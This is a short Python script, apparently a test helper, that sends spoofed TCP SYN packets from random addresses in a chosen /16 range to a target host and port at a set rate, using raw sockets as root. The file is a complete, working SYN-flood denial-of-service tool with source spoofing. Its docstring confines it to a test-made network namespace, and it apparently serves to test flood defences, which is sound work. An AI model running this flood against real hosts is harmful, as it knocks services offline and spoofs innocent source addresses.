#!/usr/bin/python3
"""Send spoofed TCP SYNs to HOST:PORT from random sources, at a bounded rate.

Usage: syn_flood.py HOST PORT COUNT RATE SRC_PREFIX. Sources are random addresses of the
/16 SRC_PREFIX (e.g. 198.18.0.0) and random ports; RATE is packets per second (sent in
batches of 50). Prints the number sent. Raw socket: run as root, in a namespace the test made.
"""
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    # the kernel fills in the IP checksum and, with id 0, the id (IP_HDRINCL)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0,
                     src, dst)
    return ip + tcp


def main():
    if len(sys.argv) != 6:
        sys.exit("usage: syn_flood.py HOST PORT COUNT RATE SRC_PREFIX")
    host, port, count, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    prefix = socket.inet_aton(sys.argv[5])[:2]
    dst = socket.inet_aton(host)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rnd = random.Random(7)
    sent = 0
    start = time.monotonic()
    while sent < count:
        for _ in range(min(50, count - sent)):
            src = prefix + bytes([rnd.randrange(1, 255), rnd.randrange(1, 255)])
            s.sendto(syn(src, dst, rnd.randrange(1024, 65535), port, rnd.getrandbits(32)),
                     (host, 0))
            sent += 1
        ahead = start + sent / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    print(sent)


if __name__ == "__main__":
    main()
